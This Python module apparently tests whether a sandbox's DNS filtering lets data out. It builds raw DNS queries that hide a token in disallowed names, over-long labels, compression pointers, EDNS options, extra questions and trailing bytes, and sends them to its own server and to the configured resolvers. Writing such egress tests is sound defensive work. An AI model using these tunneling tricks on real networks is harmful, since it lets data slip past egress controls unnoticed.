# Ways out by questions to name servers: to one of its own, and through the one that is configured.
import os, socket, struct
from tally import answered, family, patience

def label(bytes_):
    return bytes([len(bytes_)]) + bytes_

def query(name, kind=1, extra=b"", questions=1, additional=0):
    wire = b"".join(label(part) for part in name) + b"\0"
    return os.urandom(2) + struct.pack(">HHHHH", 0x0100, questions, 0, 0, additional) + wire + struct.pack(">HH", kind, 1) + extra

def ask(server, port, message, tcp=False):
    with socket.socket(family(server), socket.SOCK_STREAM if tcp else socket.SOCK_DGRAM) as s:
        s.settimeout(patience)
        s.connect((server, port))
        s.sendall(struct.pack(">H", len(message)) + message if tcp else message)
        return answered(s)

def configured(p):
    """The name servers that this process is told to ask, and the one that is known to be there."""
    with open("/etc/resolv.conf") as file:
        named = [line.split()[1] for line in file if line.startswith("nameserver") and len(line.split()) > 1]
    return list(dict.fromkeys([*named, p["resolver"]]))

def secrets(token):
    return [[token, b"%02x" % n * 8, b"tunnel", b"test"] for n in range(5)]

def own(tcp):
    def way(tally, p, token):
        for address in (p["v4"], p["v6"]):
            for name in secrets(token): tally.attempt(lambda: ask(address, 53, query(name, 16), tcp))
    return way

own_udp, own_tcp = own(False), own(True)

def library(tally, p, token):
    """As every program asks: by the C library."""
    for name in secrets(token):
        def go():
            try: return socket.getaddrinfo(b".".join(name).decode(), 80)
            except socket.gaierror: return False
        tally.attempt(go)

def everyone(*messages):
    """These questions to each name server that is configured, over UDP and over TCP."""
    def way(tally, p, token):
        allowed = [part.encode() for part in p["allowed"].split(".")]
        for server in configured(p):
            for tcp in (False, True):
                for message in messages: tally.attempt(lambda: ask(server, 53, message(allowed, token), tcp))
    return way

# Names that no rule allows, for addresses, for text and for whatever there is.
direct = everyone(*[lambda allowed, token, kind=kind: query([token, b"%x" % kind, b"tunnel", b"test"], kind) for kind in (1, 28, 16, 10, 65, 255)])
# A name below one that is allowed.
below = everyone(lambda allowed, token: query([token, *allowed]))
# A label of more than 63 bytes, a name of more than 255, and one that goes on for ever.
long = everyone(
    lambda allowed, token: query([token + b"x" * (100 - len(token)), *allowed]),
    lambda allowed, token: query([token, *[b"x" * 60] * 6, *allowed]),
    lambda allowed, token: query([token, *[b"x"] * 200, *allowed]),
)
# A pointer to what stands behind the question.
pointer = everyone(lambda allowed, token: os.urandom(2) + struct.pack(">HHHHH", 0x0100, 1, 0, 0, 0) + b"\xc0\x12" + b"\0\1\0\1" + label(token) + b"".join(map(label, allowed)) + b"\0")
# In an allowed question: an option, a second question, what comes behind the end, and a record of its own.
option = everyone(lambda allowed, token: query(allowed, 1, b"\0" + struct.pack(">HHIH", 41, 1232, 0, 4 + len(token)) + struct.pack(">HH", 65001, len(token)) + token, 1, 1))
second = everyone(lambda allowed, token: query(allowed, 1, label(token) + b"\6tunnel\4test\0" + struct.pack(">HH", 16, 1), 2))
behind = everyone(lambda allowed, token: query(allowed, 1, token))
record = everyone(lambda allowed, token: query(allowed, 1, b"\0" + struct.pack(">HHIH", 16, 1, 0, 1 + len(token)) + label(token), 1, 1))
# In the letters of an allowed name, large and small.
case = everyone(lambda allowed, token: query([mixed(part) for part in allowed]))

def mixed(part):
    return bytes(byte - 32 if n % 3 != 1 and 97 <= byte <= 122 else byte for n, byte in enumerate(part))
